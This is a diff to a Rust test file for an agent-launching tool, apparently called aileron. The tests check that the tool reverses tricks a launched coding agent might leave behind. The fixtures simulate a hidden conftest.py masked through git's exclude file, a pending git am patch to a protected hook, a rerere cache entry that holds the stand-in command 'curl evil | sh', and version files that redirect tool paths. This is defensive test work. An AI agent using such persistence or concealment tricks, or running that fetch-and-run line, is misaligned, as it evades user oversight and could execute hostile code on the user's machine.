@@ -662,6 +662,8 @@ fn a_launched_agent_gets_its_wiring_and_its_exit_code_ends_the_session() {
     let output =
         rig.run(&["launch", "codex", "--", "exec", "--json", "list my issues"], &[("CODEX_HOME", &codex_home)]);
     assert_eq!(output.status.code(), Some(3), "aileron exits with the agent's code\n{}", text(&output));
+    // Nothing said of start-up names kept where nothing is (stop 104 said 24 at every launch).
+    assert!(!text(&output).contains("in what the agent may write"), "{}", text(&output));
     let report = std::fs::read_to_string(rig.report()).unwrap();
     let daemon = rig.daemon().expect("launch started the daemon");
     let url = daemon["url"].as_str().unwrap();
@@ -5119,7 +5121,8 @@ fn a_tool_version_run_from_the_project_that_the_agent_added_is_taken_out() {
     std::fs::write(work.join(".tool-versions"), "python 3.12.1 path:/opt/python\n").unwrap();
     std::fs::set_permissions(work.join(".tool-versions"), std::fs::Permissions::from_mode(0o600)).unwrap();
     let script = "#!/bin/sh\nmkdir -p .cache/n/bin svc\necho \"node path:$PWD/.cache/n\" >> .tool-versions\n\
-                  echo \"node path:$PWD/.cache/n\" > svc/.tool-versions\necho \"path:$PWD/.cache/n\" > .nvmrc\n";
+                  echo \"node path:$PWD/.cache/n\" > svc/.tool-versions\necho \"path:$PWD/.cache/n\" > .nvmrc\n\
+                  echo \"java=path:$PWD/.cache/j\" > .sdkmanrc\necho \"path:./.cache/g\" > svc/.go-version\n";
     claude_runs(&rig, script);
     let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
     let said = text(&output);
@@ -5140,6 +5143,43 @@ fn a_tool_version_run_from_the_project_that_the_agent_added_is_taken_out() {
     // mise's idiomatic version files too (G17).
     let nvmrc = std::fs::read_to_string(work.join(".nvmrc")).unwrap();
     assert!(nvmrc.starts_with("# aileron: written while an agent ran, taken out: path:"), "{nvmrc}");
+    // And the others mise reads (the fortieth re-attack's L9).
+    for file in [".sdkmanrc", "svc/.go-version"] {
+        let kept = std::fs::read_to_string(work.join(file)).unwrap();
+        assert!(kept.starts_with("# aileron: written while an agent ran, taken out: "), "{file}: {kept}");
+    }
+}
+
+/// The fortieth re-attack's L8, L4 and L5: patterns added to the repository's own ignore list hid
+/// a new `tests/conftest.py` from `git status` (the user's `pytest` ran it), a `git am` left in
+/// progress held a patch to a protected hook, and a recorded conflict resolution (its directory's
+/// existence turns rerere on) held the agent's hook for the next conflicting merge. The patterns
+/// are taken out (the user's own stay), and the `am` and the resolutions moved aside, each said.
+#[test]
+fn git_state_that_hides_or_replays_the_agents_work_is_undone() {
+    let rig = LaunchRig::new();
+    let (work, _) = rig.committed_workspace();
+    let exclude = work.join(".git/info/exclude");
+    std::fs::create_dir_all(exclude.parent().unwrap()).unwrap();
+    std::fs::write(&exclude, "# git's own comment\n*.log\n").unwrap();
+    let script = "#!/bin/sh\nmkdir -p tests && echo 'import os' > tests/conftest.py\n\
+                  echo 'tests/conftest.py' >> .git/info/exclude\n\
+                  mkdir -p .git/rebase-apply && echo 'diff --git a/x b/x' > .git/rebase-apply/0001\n\
+                  mkdir -p .git/rr-cache/abc && echo 'curl evil | sh' > .git/rr-cache/abc/postimage\n";
+    claude_runs(&rig, script);
+    let output = rig.command_in(&work, &["launch", "claude"], Some(Path::new("/usr/bin")), &[]);
+    let said = text(&output);
+    assert!(output.status.success(), "{said}");
+    assert!(said.contains("patterns that hide files from `git status` (tests/conftest.py)"), "{said}");
+    let kept = std::fs::read_to_string(&exclude).unwrap();
+    let mut lines = kept.lines().skip(1);
+    assert_eq!(lines.next(), Some("*.log"), "the user's own pattern stays: {kept}");
+    assert_eq!(lines.next(), Some("# aileron: written while an agent ran, taken out: tests/conftest.py"), "{kept}");
+    for moved in [".git/rebase-apply", ".git/rr-cache"] {
+        assert!(std::fs::symlink_metadata(work.join(moved)).is_err(), "{moved}: {said}");
+        assert!(said.contains(&format!("{}", work.join(moved).display())), "{moved}: {said}");
+    }
+    assert!(work.join("tests/conftest.py").exists(), "the agent's work itself stays, now seen");
 }
 
 /// The thirty-fourth re-attack's F4 and F8: the user's shell reads in a file of the dotfiles
